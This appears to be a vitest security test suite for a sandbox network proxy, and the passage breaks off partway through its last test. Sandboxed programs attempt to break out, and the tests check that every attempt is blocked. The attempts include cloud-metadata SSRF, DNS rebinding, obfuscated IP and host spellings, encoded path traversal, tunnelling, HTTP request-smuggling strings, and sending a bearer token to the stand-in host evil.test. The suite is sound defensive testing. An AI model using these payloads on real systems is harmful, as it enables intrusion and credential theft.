import { randomInt } from 'node:crypto';
import { afterAll, beforeAll, expect } from 'vitest';
import type { JobLimits } from '../../src/contracts/jobs/limits.ts';
import type { JobResult } from '../../src/contracts/jobs/result.ts';
import type { NetworkOptions } from '../../src/contracts/network/network-options.ts';
import type { NetworkRow } from '../../src/contracts/network/result-network.ts';
import type { Orchestrator } from '../../src/jobs/orchestrator.ts';
import { seededRandom, shuffled, type SeededRandom } from '../chaos/seeded-random.ts';
import { startUpstream, type Upstream } from '../fixtures/egress/upstream.ts';
import { BY_FLEET } from '../fixtures/fleet/fleet-of-tests.ts';
import { until } from '../fixtures/until.ts';
import { sandboxProcesses } from './leftovers.ts';
import { answerRaw } from './network-answers.ts';
import { doorProgram } from './network-program.ts';
import { answerWithSecrets, FORMS, formsOf } from './network-secrets.ts';
import { attempts, reportOf } from './plainly.ts';
import { processesOf, searchSandbox } from './sandbox-search.ts';
import { attack, type AttackOptions, type Level } from './surroundings.ts';

const LEVELS: Level[] = ['namespace', 'container'];
const VALUE = 'sk-test-Abcdef0123456789xyzW';

let ordinary: Upstream;
let raw: Upstream;
beforeAll(async () => {
  ordinary = await startUpstream({ answer: answerWithSecrets });
  raw = await startUpstream({ raw: answerRaw });
});
afterAll(async () => {
  await ordinary[Symbol.asyncDispose]();
  await raw[Symbol.asyncDispose]();
});

/** Words `$https` and `$http` are the ports of the upstream. */
const ported = ({ port, plainPort }: Upstream, text: string): string =>
  text.replaceAll('$https', `${port}`).replaceAll('$http', `${plainPort}`);

interface Tried {
  result: JobResult;
  report: Record<string, unknown>;
}

/** A job with a network that makes attempts. */
async function tried(
  orchestrator: Orchestrator,
  {
    level,
    rules,
    upstream = ordinary,
    ...job
  }: {
    level: Level;
    rules: string[];
    code: string;
    upstream?: Upstream;
    secrets?: string[];
    env?: Record<string, string>;
    limits?: Partial<JobLimits>;
  },
): Promise<Tried> {
  const result = await orchestrator.exec({
    ...job,
    language: 'python',
    isolation: level,
    network: rules.map((rule) => ported(upstream, rule)),
    args: [`${upstream.port}`, `${upstream.plainPort}`],
    limits: { runTimeoutMs: 60_000, graceMs: 500, ...job.limits },
  });
  if (!result.stdout.text.startsWith('{')) throw new Error(`no report: ${result.outcome} ${result.stderr.text}`);
  return { result, report: reportOf(result.stdout.text) };
}

interface DoorAttack {
  rules: string[];
  /** Rules with which the same attempts come through; the names of those that do. */
  open?: { rules: string[]; names: string[] };
  options?: Partial<NetworkOptions>;
  openOptions?: Partial<NetworkOptions>;
  upstream?: () => Upstream;
  attempts: Record<string, string>;
  blocked: RegExp;
  opened?: RegExp;
}

/** An attack by programs on the door of their job, at both levels, and again with rules that allow it. */
function doorAttack(id: string, title: string, given: DoorAttack, options: AttackOptions = {}): void {
  attack(id, title, { levels: LEVELS, ...options }, async ({ level, ownOrchestrator, evidence }) => {
    const upstream = given.upstream?.() ?? ordinary;
    const run = async (rules: string[], more: Partial<NetworkOptions> | undefined): Promise<Tried> => {
      const network = { ...upstream.network(rules.map((rule) => ported(upstream, rule))), ...more };
      const orchestrator = ownOrchestrator({ network });
      return await tried(orchestrator, { level, rules, upstream, code: doorProgram(given.attempts) });
    };
    const before = upstream.requests.length;
    const { report } = await run(given.rules, given.options);
    for (const [name, seen] of Object.entries(report)) expect(seen, name).toMatch(given.blocked);
    expect(upstream.requests.length, 'requests that arrived').toBe(before);
    evidence(`${Object.keys(report).length} attempts: ${[...new Set(Object.values(report))].join(', ')}`);
    if (given.open === undefined) return;
    const { report: opened } = await run(given.open.rules, given.openOptions ?? given.options);
    for (const name of given.open.names) expect(opened[name], `${name}, allowed`).toMatch(given.opened ?? /^200$/);
    evidence(`with other rules: ${given.open.names.map((name) => String(opened[name])).join(', ')}`);
  });
}

const table = (names: readonly string[], expression: (name: string) => string): Record<string, string> =>
  Object.fromEntries(names.map((name) => [name, expression(JSON.stringify(name))]));

doorAttack('P01', 'reaches no address of the host or of a cloud, by name or by address', {
  rules: [
    'api.test:$https',
    '127.0.0.1:$https',
    'http://127.0.0.1:$http',
    '169.254.169.254',
    '[::1]:$https',
    '[fd00:ec2::254]',
  ],
  options: { allowPrivate: [] },
  attempts: {
    name: 'ask("api.test")',
    address: 'say("GET http://127.0.0.1:$http/ HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n")',
    six: 'ask("[::1]")',
    metadata: 'ask("169.254.169.254:443")',
    'metadata of IPv6': 'ask("[fd00:ec2::254]:443")',
  },
  blocked: /^403 address-blocked$/,
  open: { rules: ['api.test:$https', 'http://127.0.0.1:$http'], names: ['name', 'address'] },
  openOptions: {},
});

attack('P02', 'reaches no address to which a name changes after its check', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const asked: string[] = [];
  const network = {
    ...ordinary.network([ported(ordinary, 'api.test:$https')]),
    allowPrivate: ['127.0.0.9/32'],
    lookup: async (host: string) => {
      asked.push(host);
      return [{ address: asked.length === 1 ? '127.0.0.9' : '127.0.0.1', family: 4 }];
    },
  };
  const code = doorProgram({ first: 'ask("api.test")', second: 'ask("api.test")' });
  const { report } = await tried(ownOrchestrator({ network }), { level, rules: ['api.test:$https'], code });
  expect(report).toEqual({ first: '502', second: '403 address-blocked' });
  expect(asked).toEqual(['api.test', 'api.test']);
  evidence('the first request went to the checked address alone; the second was denied');
});

doorAttack('P03', 'reaches no name with one private address among others', {
  rules: ['api.test:$https'],
  options: {
    lookup: async () => [
      { address: '127.0.0.1', family: 4 },
      { address: '10.0.0.7', family: 4 },
    ],
  },
  attempts: { name: 'ask("api.test")' },
  blocked: /^403 address-blocked$/,
  open: { rules: ['api.test:$https'], names: ['name'] },
  openOptions: {},
});

doorAttack('P04', 'opens no tunnel to a place that can be read in two ways', {
  rules: ['api.test:$https', '127.0.0.1:$https'],
  attempts: table(
    [
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '127.0.0.1.',
      '①②⑦.⓪.⓪.①',
      '127。0。0。1',
      'user@api.test',
      '%61pi.test',
    ],
    (host) => `ask(${host})`,
  ),
  blocked: /^(403|400) protocol-refused$/,
});

doorAttack('P05', 'reaches a denied host by no other spelling of its name', {
  rules: ['api.test:$https'],
  attempts: table(['EVIL.test', 'evil.test.', 'bücher.test', 'evil.TEST.'], (host) => `ask(${host}, named="x")`),
  blocked: /^(403 host-not-allowed|40[03] protocol-refused|421 authority-mismatch)$/,
});

const LOOK_ALIKES = [
  'evilwild.test',
  'a.wild.test.evil.test',
  'wild.test',
  'a-wild.test',
  'wild.tests',
  'a.wild.test.x',
];
doorAttack('P06', 'reaches no look-alike of an allowed name', {
  rules: ['*.wild.test:$https'],
  attempts: table(LOOK_ALIKES, (host) => `ask(${host})`),
  blocked: /^403 host-not-allowed$/,
  open: { rules: LOOK_ALIKES.slice(0, 4).map((host) => `${host}:$https`), names: LOOK_ALIKES.slice(0, 4) },
});

doorAttack('P07', 'reaches no other port, and no address that no rule names', {
  rules: ['api.test:1'],
  attempts: {
    port: 'ask("api.test")',
    address: 'ask("127.0.0.1")',
    mapped: 'ask("[::ffff:127.0.0.1]")',
    metadata: 'ask("169.254.169.254")',
  },
  blocked: /^403 (port|host)-not-allowed$/,
  open: { rules: ['api.test:$https'], names: ['port'] },
});

doorAttack('P08', 'speaks no plain http where its rule has https', {
  rules: ['api.test:$https', 'api.test:$http'],
  attempts: {
    proxied: 'say("GET http://api.test:$http/ HTTP/1.1\\r\\nHost: api.test:$http\\r\\nConnection: close\\r\\n\\r\\n")',
  },
  blocked: /^403 scheme-not-allowed$/,
  open: { rules: ['http://api.test:$http'], names: ['proxied'] },
});

doorAttack('P09', 'uses no denied method, also not by a header', {
  rules: ['GET,HEAD api.test:$https'],
  attempts: {
    post: 'ask("api.test", "POST", body="x")',
    delete: 'ask("api.test", "DELETE")',
    small: 'ask("api.test", "get")',
    trace: 'ask("api.test", "TRACE")',
    override: 'ask("api.test", lines=["X-HTTP-Method-Override: DELETE"])',
  },
  blocked: /^(403 method-not-allowed|400 protocol-refused)$/,
  open: { rules: ['api.test:$https'], names: ['post', 'delete', 'override'] },
});

const PATHS = [
  '/v2',
  '/v1/../v2',
  '/v1/%2e%2e/v2',
  '/v1/..%2fv2',
  '/v1//v2',
  '/v1/..;/v2',
  '/v1/..%5cv2',
  '/v1/%252e%252e/v2',
  '/V1/a',
];
doorAttack('P10', 'leaves the allowed paths by no spelling', {
  rules: ['api.test:$https/v1/**'],
  attempts: table(PATHS, (path) => `ask("api.test", path=${path})`),
  blocked: /^403 (path-not-allowed|target-ambiguous)$/,
  open: { rules: ['api.test:$https'], names: ['/v2', '/V1/a'] },
});

doorAttack('P11', 'fronts no host by its Host header, server name or absolute form', {
  rules: ['api.test:$https', 'front.test:$https'],
  attempts: {
    host: 'ask("front.test", named="api.test:$https")',
    evil: 'ask("front.test", named="evil.test")',
    server: 'ask("front.test", name="api.test")',
    absolute: 'ask("front.test", path="https://evil.test/")',
    credentials: 'ask("front.test", path="https://front.test@evil.test/")',
  },
  blocked: /^421 authority-mismatch$/,
});

doorAttack('P12', 'carries no other protocol out', {
  rules: ['api.test:$https'],
  attempts: {
    tunnel: 'in_tls("api.test:$https", "CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n")',
    upgrade: 'ask("api.test", lines=["Upgrade: websocket"])',
    http2: 'in_tls("api.test:$https", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")',
    ssh: 'say("CONNECT api.test:$https HTTP/1.1\\r\\n\\r\\nSSH-2.0-x\\r\\n\\r\\n").split("\\r\\n\\r\\n", 1)[1]',
    binary: 'say("CONNECT api.test:$https HTTP/1.1\\r\\n\\r\\n\\x05\\x01").split("\\r\\n\\r\\n", 1)[1] or "none"',
    socks: 'say("\\x05\\x01\\x00\\r\\n\\r\\n")',
  },
  blocked: /^(40[03] protocol-refused|none)$/,
});

const HEAD = 'POST /a HTTP/1.1\\r\\nHost: api.test:$https\\r\\nConnection: close\\r\\n';
doorAttack('P13', 'smuggles no request into another one', {
  rules: ['api.test:$https'],
  attempts: Object.fromEntries(
    Object.entries({
      'both lengths': 'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
      'a folded header': 'Content-Length: 0\\r\\nX-A: 1\\r\\n b\\r\\n\\r\\n',
      'a line feed alone': 'Content-Length: 0\\n\\n',
      'a space before a colon': 'Content-Length : 0\\r\\n\\r\\n',
      'two lengths': 'Content-Length: 0\\r\\nContent-Length: 1\\r\\n\\r\\nx',
      'an odd coding': 'Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n',
      'an odd chunk': 'Transfer-Encoding: chunked\\r\\n\\r\\n0x1\\r\\nx\\r\\n0\\r\\n\\r\\n',
      'two keys': 'Authorization: a\\r\\nAuthorization: b\\r\\nContent-Length: 0\\r\\n\\r\\n',
      'a NUL': 'X-A: \\x00\\r\\nContent-Length: 0\\r\\n\\r\\n',
    }).map(([name, rest]) => [name, `in_tls("api.test:$https", "${HEAD}${rest}")`]),
  ),
  // An odd chunk comes after the head, so a request may begin, and ends broken.
  blocked: /^(400 protocol-refused|403 target-ambiguous)$/,
});

attack('P16', 'gets no broken answer of a host, and no second one', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const rules = ['api.test:$https'];
  const paths = [
    '/both-lengths',
    '/two-lengths',
    '/nul',
    '/carriage-return',
    '/nameless',
    '/old',
    '/other-version',
    '/switch',
    '/nothing',
  ];
  const floods = ['/interim', '/headers', '/one-header'];
  const code = doorProgram({
    ...table([...paths, ...floods], (path) => `ask("api.test", path=${path})`),
    twice: '"smuggled" if "Smuggled" in ask("api.test", path="/twice") + ask("api.test", path="/next") else "nothing"',
    good: 'ask("api.test", path="/good")',
  });
  const network = raw.network(rules.map((rule) => ported(raw, rule)));
  const { report } = await tried(ownOrchestrator({ network }), { level, rules, upstream: raw, code });
  for (const path of [...paths, ...floods]) expect(report[path], path).toMatch(/^(502|none)$/);
  expect(report).toMatchObject({ twice: 'nothing', good: '200' });
  evidence(`${paths.length} broken answers and ${floods.length} floods: 502`);
});

/** Options of a network with one secret for api.test. */
const withSecret = (more: Partial<NetworkOptions> = {}): NetworkOptions => ({
  ...ordinary.network(
    ['api.test:$https', 'evil.test:$https', 'http://api.test:$http'].map((rule) => ported(ordinary, rule)),
  ),
  secrets: { TOKEN: { value: VALUE, hosts: [ported(ordinary, 'api.test:$https')] } },
  ...more,
});

attack('P21', 'brings a secret to no other place than its own', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const rules = ['api.test:$https', 'evil.test:$https', 'http://api.test:$http'];
  const before = ordinary.requests.length;
  const code = doorProgram({
    own: 'ask("api.test", path="/own", lines=["Authorization: Bearer " + os.environ["TOKEN"]])',
    other: 'ask("evil.test", lines=["Authorization: Bearer " + os.environ["TOKEN"]])',
    alias: 'ask("evil.test", named="api.test:$https", lines=["Authorization: Bearer " + os.environ["TOKEN"]])',
    server: 'ask("evil.test", name="api.test", lines=["Authorization: Bearer " + os.environ["TOKEN"]])',
    plain:
      'say("GET http://api.test:$http/ HTTP/1.1\\r\\nHost: api.test:$http\\r\\nConnection: close\\r\\nAuthorization: Bearer " + os.environ["TOKEN"] + "\\r\\n\\r\\n")',
    header: 'ask("api.test", lines=["X-Other: " + os.environ["TOKEN"]])',
    path: 'ask("api.test", path="/" + os.environ["TOKEN"])',
    body: 'ask("api.test", "POST", body=os.environ["TOKEN"])',
  });
  const orchestrator = ownOrchestrator({ network: withSecret() });
  const { report, result } = await tried(orchestrator, { level, rules, code, secrets: ['TOKEN'] });
  expect(report).toMatchObject({ own: '200', other: '200', plain: '200', header: '200', path: '200', body: '200' });
  const seen = ordinary.requests.slice(before);
  const holders = seen.filter((request) => JSON.stringify(request).includes(VALUE));
  expect(holders.map(({ url }) => url)).toEqual(['/own']);
  expect(JSON.stringify(result)).not.toContain(VALUE);
  evidence(`1 of ${seen.length} requests had the value: that to its host, in its header`);
});

/** Places of an answer in which the host repeats a value. */
const REPEATED_IN = ['/status', '/header', '/cookie', '/redirect', '/error', '/body', '/lines', '/gzip', '/part'];
const ANSWERS = REPEATED_IN.length * Object.keys(FORMS).length;

/** Asks for a value in each place and form, keeps the answers in memory and in files wherever it may, and holds still. */
const KEEPING = doorProgram(
  { held: 'hold()', written: 'written', answers: 'answers' },
  `
import tempfile, urllib.parse
auth = ['Authorization: Bearer ' + os.environ['TOKEN']]
answers = [ask('api.test', path=place + '?form=' + urllib.parse.quote(form), lines=auth) for place in ${JSON.stringify(REPEATED_IN)} for form in ${JSON.stringify(Object.keys(FORMS))}]
written = []
for folder in ('.', 'out', tempfile.gettempdir(), os.environ['HOME'], '/dev/shm', '/value', '/skills', os.path.dirname(os.environ['SSL_CERT_FILE'])):
    try:
        path = os.path.realpath(os.path.join(folder, 'answers.txt'))
        with open(path, 'w', encoding='latin1') as file:
            file.write('\\n'.join(answers))
        written.append(path)
    except OSError:
        pass
def hold():
    opened = secure('api.test:$https')
    opened.settimeout(None)
    query = urllib.parse.quote(os.environ['TOKEN'])
    opened.sendall(fill(f'GET /hold?{query} HTTP/1.1\\r\\nHost: api.test:$https\\r\\nConnection: close\\r\\n\\r\\n').encode())
    return whole(opened)
`,
);

attack(
  'P22',
  'finds a secret in no answer, in no file and in no memory',
  { levels: LEVELS, needs: ['root'], timeoutMs: 400_000, mayGrowMib: 384 },
  async ({ level, ownOrchestrator, evidence }) => {
    const holds = [0, 1].map(() => Promise.withResolvers<{ token: string; release(): void }>());
    let held = 0;
    await using upstream = await startUpstream({
      answer(request, response) {
        if (request.url?.startsWith('/hold?') !== true) return answerWithSecrets(request, response);
        const token = decodeURIComponent(request.url.slice('/hold?'.length));
        holds[held]?.resolve({ token, release: () => response.end('released') });
        held += 1;
      },
    });
    const rules = ['api.test:$https'];
    const network = {
      ...upstream.network(rules.map((rule) => ported(upstream, rule))),
      secrets: { TOKEN: { value: VALUE, hosts: [ported(upstream, 'api.test:$https')] } },
    };
    const orchestrator = ownOrchestrator({ network });
    /** Searches the sandbox of a job while it holds the answers, and then the job's output. */
    const search = async (job: { secrets?: string[]; env?: Record<string, string> }, index: number) => {
      const known = new Set(sandboxProcesses());
      const limits = { runTimeoutMs: 180_000 };
      const running = tried(orchestrator, { level, rules, upstream, code: KEEPING, limits, ...job });
      const hold = await Promise.race([holds[index]?.promise, running.then(() => undefined)]);
      if (hold === undefined) throw new Error('The program ended early.');
      const words = { ...formsOf(VALUE), token: hold.token, authority: '-----BEGIN CERTIFICATE-----' };
      const findings = await searchSandbox(await processesOf(level, known), words);
      hold.release();
      const { result, report } = await running;
      expect(report).toMatchObject({ held: '200', answers: { length: ANSWERS } });
      const output = JSON.stringify(result) + (await orchestrator.readArtifact(result, 'answers.txt', 'utf8'));
      const isThere = (word: string): boolean => output.includes(words[word as keyof typeof words] ?? '');
      return {
        /** Places of a word. */
        of: (word: string) =>
          findings
            .filter((each) => each.word === word)
            .map(({ place }) => place)
            .toSorted(),
        inOutput: Object.keys(words).filter(isThere),
        written: [...new Set(report['written'] as string[])].toSorted(),
        token: hold.token,
      };
    };
    const forms = Object.keys(formsOf(VALUE));

    const kept = await search({ secrets: ['TOKEN'] }, 0);
    // The control: a program that has the value from its caller, and the same answers.
    const open = await search({ env: { TOKEN: VALUE } }, 1);

    for (const form of forms) expect(kept.of(form), form).toEqual([]);
    expect(kept.inOutput).toEqual(['token']);
    expect(kept.token).not.toBe(VALUE);
    const memories = ['memory of node', 'memory of python3'];
    for (const { of, written } of [kept, open]) {
      expect(written).toEqual(
        expect.arrayContaining(['/tmp/answers.txt', '/workspace/answers.txt', '/workspace/out/answers.txt']),
      );
      expect(of('token')).toEqual(expect.arrayContaining([...memories, ...written]));
      expect(of('authority')).toContain('/skills/.network/authority.pem');
    }
    for (const form of forms)
      expect(open.of(form), form).toEqual(expect.arrayContaining(['memory of python3', ...open.written]));
    expect(open.inOutput.toSorted()).toEqual([...forms, 'token'].toSorted());
    evidence(`${ANSWERS} answers: no form of the value in ${kept.of('token').join(', ')}, nor in the output`);
    evidence(`given by its caller, ${forms.length} forms in ${open.of('raw').join(', ')}`);
  },
);

attack('P25', 'gets no more requests and bytes than its share', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const rules = ['api.test:$https'];
  const orchestrator = ownOrchestrator({ network: withSecret() });
  const code = doorProgram(table(['1', '2', '3'], () => 'ask("api.test")'));
  const few = await tried(orchestrator, { level, rules, code, limits: { networkRequests: 2 } });
  expect(few.report).toEqual({ 1: '200', 2: '200', 3: '429 quota' });
  const sent = doorProgram({ all: 'ask("api.test", "POST", body="x" * 100000)' });
  const much = await tried(orchestrator, { level, rules, code: sent, limits: { networkBytesOut: 1_000 } });
  expect(much.report).toEqual({ all: '429 quota' });
  const open = await tried(orchestrator, { level, rules, code: sent });
  expect(open.report).toEqual({ all: '200' });
  evidence('the third of two requests, and 100 KB of 1 KB: 429');
});

attack('P26', 'makes no request that the audit cannot record', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const rules = ['api.test:$https'];
  const rows: NetworkRow[] = [];
  const audit = (row: NetworkRow): void => {
    rows.push(row);
    throw new Error('the disk is full');
  };
  const code = doorProgram(
    { first: 'ask("api.test")', later: 'denied_later()' },
    `
import time
def denied_later():
    for _ in range(200):
        seen = verdict(ask('api.test'))
        if seen != '200':
            return seen
        time.sleep(0.02)
    return seen
`,
  );
  const { report } = await tried(ownOrchestrator({ network: withSecret({ audit }) }), { level, rules, code });
  expect(report).toEqual({ first: '200', later: '403 audit-failed' });
  const calm = ownOrchestrator({ network: withSecret() });
  expect((await tried(calm, { level, rules, code: doorProgram({ again: 'ask("api.test")' }) })).report).toEqual({
    again: '200',
  });
  evidence(`403 audit-failed after ${rows.length} rows`);
});

attack(
  'P28',
  'ends with its connections, also those that never read',
  { levels: LEVELS, mayGrowMib: 256 },
  async (scene) => {
    const { level, ownOrchestrator, evidence } = scene;
    const open = new Set<unknown>();
    await using flood = await startUpstream({
      answer(_request, response) {
        open.add(response);
        response.on('close', () => open.delete(response));
        const more = (): void => {
          while (!response.destroyed && response.write(Buffer.alloc(65_536))) {
            // Until the connection is full.
          }
        };
        response.on('drain', more);
        more();
      },
    });
    const orchestrator = ownOrchestrator({ network: flood.network([`api.test:${flood.port}`]) });
    const code = doorProgram(
      {},
      `
held = []
for _ in range(32):
    opened = secure('api.test:$https')
    opened.sendall(fill('GET / HTTP/1.1\\r\\nHost: api.test:$https\\r\\n\\r\\n').encode())
    held.append(opened)
print('asked', flush=True)
import time
time.sleep(60)
`,
    );
    const job = orchestrator.stream({
      ...{ kind: 'exec', language: 'python', isolation: level, code, network: [`api.test:${flood.port}`] },
      args: [`${flood.port}`, `${flood.plainPort}`],
      limits: { graceMs: 2_000 },
    });
    await until(() => open.size === 32, '32 answers under way');
    const started = performance.now();
    orchestrator.cancel(job.jobId, 'enough');
    const result = await job.result;
    const tookMs = Math.round(performance.now() - started);
    expect(result).toMatchObject({ outcome: 'canceled' });
    await until(() => open.size === 0, 'an end of the connections to the host');
    expect(result.network?.requests).toBe(32);
    evidence(`32 full connections ended ${tookMs} ms after the cancel`);
  },
);

/** A job of a tenant among others. */
interface TenantJob {
  tenant: string;
  index: number;
  /** The number of its host and of its secret. */
  place: number;
  /** The order of its requests. */
  order: string[];
  /** Milliseconds that its host waits before the answer. */
  waitMs: number;
  /** The step before it starts. */
  before: 'nothing' | 'a turn' | 'an end';
}

const PLACES = 5;

function tenantJobs(random: SeededRandom, tenants: readonly string[], each: number): TenantJob[] {
  const all = tenants.flatMap((tenant) => Array.from({ length: each }, (_, index) => ({ tenant, index })));
  return shuffled(random, all).map((job) => ({
    ...job,
    place: random.between(0, PLACES - 1),
    order: shuffled(random, ['own', 'next', 'other']),
    waitMs: random.between(0, 30),
    before: random.pick(['nothing', 'a turn', 'an end']),
  }));
}

/** Draws random numbers, and names their seed if the body fails. `SKILLCELL_SEED` repeats them. */
async function withSeed(body: (random: SeededRandom) => Promise<void>): Promise<void> {
  const seed = Number(process.env['SKILLCELL_SEED'] ?? randomInt(2 ** 31));
  try {
    await body(seededRandom(seed));
  } catch (cause) {
    throw new Error(`With SKILLCELL_SEED=${seed}: ${cause instanceof Error ? cause.message : String(cause)}`, {
      cause,
    });
  }
}

attack(
  'P29',
  'never gets the rules, secrets or rows of another job or tenant',
  { levels: LEVELS, timeoutMs: 400_000, mayGrowMib: 512 },
  ({ level, ownOrchestrator, evidence }) =>
    withSeed(async (random) => {
      const each = level === 'namespace' ? 50 : 12;
      const jobs = tenantJobs(random, ['red', 'blue'], each);
      const pathOf = ({ tenant, index }: Pick<TenantJob, 'tenant' | 'index'>): string => `/${tenant}/${index}`;
      await using upstream = await startUpstream({
        answer(request, response) {
          const { waitMs } = jobs.find((job) => pathOf(job) === request.url) ?? {};
          setTimeout(() => response.end(`sent ${request.headers.authorization}`), waitMs);
        },
      });
      const hostOf = (tenant: string, place: number): string => `${tenant}${place % PLACES}.tenant.test`;
      const valueOf = ({ tenant, place }: Pick<TenantJob, 'tenant' | 'place'>): string =>
        `sk-${tenant}-${place}-0123456789`;
      const tenants = ['red', 'blue'].map((tenant) => {
        const rows: NetworkRow[] = [];
        const secrets = Array.from({ length: PLACES }, (_, place) => {
          const hosts = [`${hostOf(tenant, place)}:${upstream.port}`];
          return [`TOKEN${place}`, { value: valueOf({ tenant, place }), hosts, variable: 'TOKEN' }] as const;
        });
        const orchestrator = ownOrchestrator({
          concurrency: 4,
          pool: { size: 3, languages: ['python'], isolation: level },
          network: {
            ...upstream.network([`*.tenant.test:${upstream.port}`]),
            secrets: Object.fromEntries(secrets),
            audit: (row) => void rows.push(row),
          },
        });
        return { tenant, other: tenant === 'red' ? 'blue' : 'red', rows, orchestrator };
      });
      const tenantOf = (job: TenantJob): (typeof tenants)[number] => {
        const found = tenants.find(({ tenant }) => tenant === job.tenant);
        if (found === undefined) throw new Error(`no tenant ${job.tenant}`);
        return found;
      };
      const run = async (job: TenantJob): Promise<Tried & { job: TenantJob }> => {
        const { other, orchestrator } = tenantOf(job);
        const host = hostOf(job.tenant, job.place);
        const path = JSON.stringify(pathOf(job));
        const asks: Record<string, string> = {
          own: `own("${host}", ${path})`,
          next: `ask("${hostOf(job.tenant, job.place + 1)}", path=${path})`,
          other: `ask("${hostOf(other, job.place)}", path=${path})`,
        };
        const code = doorProgram(
          { ...Object.fromEntries(job.order.map((name) => [name, asks[name] ?? ''])), token: 'os.environ["TOKEN"]' },
          `
def own(host, path):
    answer = ask(host, path=path, lines=['Authorization: ' + os.environ['TOKEN']])
    return verdict(answer) + ' ' + ' '.join(re.findall(r'\\bsk-[\\w-]+', answer))
`,
        );
        const rules = [`${host}:${upstream.port}`];
        return {
          ...(await tried(orchestrator, { level, rules, upstream, code, secrets: [`TOKEN${job.place}`] })),
          job,
        };
      };

      await Promise.all(tenants.map(({ orchestrator }) => orchestrator.warm()));
      const running = new Set<Promise<unknown>>();
      const started: ReturnType<typeof run>[] = [];
      for (const job of jobs) {
        if (job.before === 'a turn') await new Promise(setImmediate);
        if (job.before === 'an end' && running.size > 0) await Promise.race(running);
        const one = run(job);
        started.push(one);
        running.add(one);
        void one.finally(() => running.delete(one)).catch(() => undefined);
      }
      const ended = await Promise.all(started);

      for (const { report, result, job } of ended) {
        const { token } = report;
        const denied = '403 host-not-allowed';
        expect(report).toEqual({ own: `200 ${String(token)}`, next: denied, other: denied, token });
        expect(result.network).toMatchObject({ requests: 1, secrets: [`TOKEN${job.place}`], deniedMore: 0 });
        expect(result.network?.denied.map(({ host }) => host).toSorted()).toEqual(
          [hostOf(job.tenant, job.place + 1), hostOf(tenantOf(job).other, job.place)].toSorted(),
        );
      }
      expect(new Set(ended.map(({ report }) => report['token'])).size, 'placeholders').toBe(2 * each);
      const arrived = upstream.requests.map(({ url, headers }) => `${url} ${headers.authorization}`);
      expect(arrived.toSorted()).toEqual(jobs.map((job) => `${pathOf(job)} ${valueOf(job)}`).toSorted());
      for (const { tenant, other, rows } of tenants) {
        const own = ended.filter(({ job }) => job.tenant === tenant);
        const expected = own.flatMap(({ result: { jobId }, job }) => {
          const path = pathOf(job);
          return [
            { jobId, path, host: hostOf(tenant, job.place), secrets: [`TOKEN${job.place}`], reason: undefined },
            { jobId, path, host: hostOf(tenant, job.place + 1), secrets: [], reason: 'host-not-allowed' },
            { jobId, path, host: hostOf(other, job.place), secrets: [], reason: 'host-not-allowed' },
          ];
        });
        const seen = rows.map(({ jobId, path, host, secrets, reason }) => ({ jobId, path, host, secrets, reason }));
        const inOrder = (given: typeof expected | typeof seen): string[] =>
          given.map((row) => JSON.stringify(row)).toSorted();
        expect(inOrder(seen)).toEqual(inOrder(expected));
        const warm = own.filter(({ result }) => result.usage.warm);
        // The workers of a fleet have the pools.
        if (!BY_FLEET) expect(warm.length, 'warm sandboxes').toBeGreaterThan(0);
        evidence(
          `${tenant}: ${own.length} jobs, ${warm.length} of them warm, each with its own rules, secret and rows`,
        );
      }
    }),
);

attack('P30', 'has no other way out than the door, and cannot replace it', { levels: LEVELS }, async (scene) => {
  const { level, ownOrchestrator, evidence } = scene;
  const rules = ['api.test:$https'];
  const orchestrator = ownOrchestrator({ network: withSecret() });
  const expressions = {
    interfaces: '[name for _, name in socket.if_nameindex()]',
    routes: 'len(content("/proc/net/route").strip().splitlines()) - 1',
    outside: 'connected(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))',
    datagram: 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)) and None',
    resolver: 'readable("/etc/resolv.conf")',
    name: 'socket.getaddrinfo("api.test", 443) and None',
    bind: 'bound("127.0.0.1", 3128)',
    'bind all': 'bound("0.0.0.0", 3128)',
    'bind beside': 'bound("127.0.0.1", 3128, socket.SO_REUSEPORT)',
    authority: 'created(os.path.join(os.path.dirname(os.environ["SSL_CERT_FILE"]), "x"))',
    'the authority itself': 'opened(os.environ["SSL_CERT_FILE"], os.O_WRONLY)',
    door: 'connected(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 3128))',
  };
  const code = attempts(
    `
def bound(host, port, option=socket.SO_REUSEADDR):
    with socket.socket() as attempted:
        attempted.setsockopt(socket.SOL_SOCKET, option, 1)
        attempted.bind((host, port))
        attempted.listen()
`,
    expressions,
  );
  const { report } = await tried(orchestrator, { level, rules, code });
  expect(report).toMatchObject({ interfaces: ['lo'], routes: 0, resolver: '', name: 'gaierror', door: 'reached' });
  for (const name of ['outside', 'datagram']) expect(report[name], name).toMatch(/^(ENETUNREACH|EHOSTUNREACH)$/);
  for (const name of ['bind', 'bind all', 'bind beside']) expect(report[name], name).toBe('EADDRINUSE');
  for (const name of ['authority', 'the authority itself'])
    expect(report[name], name).toMatch(/^(EROFS|EACCES|EPERM)$/);
  evidence('only lo, no route, no resolver; the port of the door is in use');
});

attack('P30', 'has no door without a network', { levels: LEVELS }, async (scene) => {
  const { level, job, ownOrchestrator, evidence } = scene;
  const listening = `sorted(row.split()[1] for name in ("tcp", "tcp6") for row in readable("/proc/net/" + name).splitlines()[1:] if row.split()[3] == "0A")`;
  const code = attempts('', {
    listening,
    variables: 'sorted(name for name in os.environ if "proxy" in name.lower() or "CA" in name)',
  });
  const without = reportOf((await job({ code })).stdout.text);
  expect(without).toEqual({ listening: [], variables: [] });
  const { report } = await tried(ownOrchestrator({ network: withSecret() }), {
    level,
    rules: ['api.test:$https'],
    code,
  });
  expect(report['listening']).toEqual(['0100007F:0C38']);
  expect(report['variables']).toContain('HTTPS_PROXY');
